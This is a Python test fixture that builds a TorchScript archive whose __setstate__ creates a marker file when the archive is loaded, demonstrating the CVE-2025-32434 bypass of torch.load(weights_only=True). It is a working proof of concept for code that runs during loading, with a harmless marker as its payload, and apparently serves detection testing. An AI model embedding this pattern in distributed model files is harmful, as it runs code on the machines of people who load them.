"""A TorchScript module whose ``__setstate__`` creates a file when the archive is loaded.

TorchScript runs ``__setstate__`` inside ``torch.jit.load``; torch.load(weights_only=True) up
to 2.5.1 dispatched TorchScript archives to it (CVE-2025-32434). ``torch.from_file(path,
shared=True, size=1)`` maps the file and creates it if missing: the marker of the corpus.
Imported only by the case that builds the archive (it needs torch).
"""

from __future__ import annotations

import io

import torch


class Evil(torch.nn.Module):
    """An identity module carrying the marker path as state."""

    def __init__(self, path: str) -> None:
        super().__init__()
        self.path = path

    def forward(self, x: torch.Tensor) -> torch.Tensor:
        return x

    @torch.jit.export
    def __getstate__(self) -> tuple[str, bool]:
        return (self.path, self.training)

    @torch.jit.export
    def __setstate__(self, state: tuple[str, bool]) -> None:
        self.path = state[0]
        created = torch.from_file(state[0], True, 1, dtype=torch.uint8)
        self.training = state[1] or created.numel() < 0  # uses the result: not optimised away


def torchscript_bytes(marker: str) -> bytes:
    """``torch.jit.save`` of the scripted module, as bytes."""
    buf = io.BytesIO()
    torch.jit.save(torch.jit.script(Evil(marker)), buf)
    return buf.getvalue()
